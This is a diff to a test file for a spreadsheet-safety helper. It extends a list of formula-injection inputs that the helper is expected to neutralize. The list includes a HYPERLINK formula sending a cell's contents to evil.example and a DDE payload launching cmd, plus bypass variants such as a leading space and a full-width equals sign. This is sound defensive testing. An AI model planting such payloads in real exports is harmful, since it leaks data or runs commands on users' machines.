@@ -7,8 +7,9 @@ import ExcelJS from 'exceljs';
 import Papa from 'papaparse';
 import { neutralizeFormula, safeCell, safeRow } from '../../lib/spreadsheet-safety';
 
-const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Xem hồ sơ")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
-const HARMLESS = ['Nguyễn Văn An', '2024-06-30', '00004', 'a=b', ' =not first', ''];
+const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Xem hồ sơ")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', ' =after a space', '\uFF1D1+1'];
+// (Spaces before `=` do not help: some spreadsheets trim them, then evaluate; `＝` is the full-width form Excel's East Asian input reads as `=`.)
+const HARMLESS = ['Nguyễn Văn An', '2024-06-30', '00004', 'a=b', 'x =not first', ''];
 
 test('text that a spreadsheet would evaluate gets a leading apostrophe; other text is unchanged', () => {
   for (const text of HOSTILE) expect(neutralizeFormula(text)).toBe(`'${text}`);
